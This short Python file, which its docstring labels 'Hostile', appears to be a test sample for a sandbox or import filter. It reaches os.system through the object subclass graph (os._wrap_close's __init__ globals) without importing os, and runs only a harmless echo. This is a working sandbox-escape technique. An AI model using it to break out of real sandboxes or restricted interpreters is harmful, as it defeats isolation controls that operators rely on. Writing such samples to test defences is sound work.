"""Hostile: reach os without importing it, through the object graph."""
import numpy as np  # noqa: F401

for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("echo escaped")
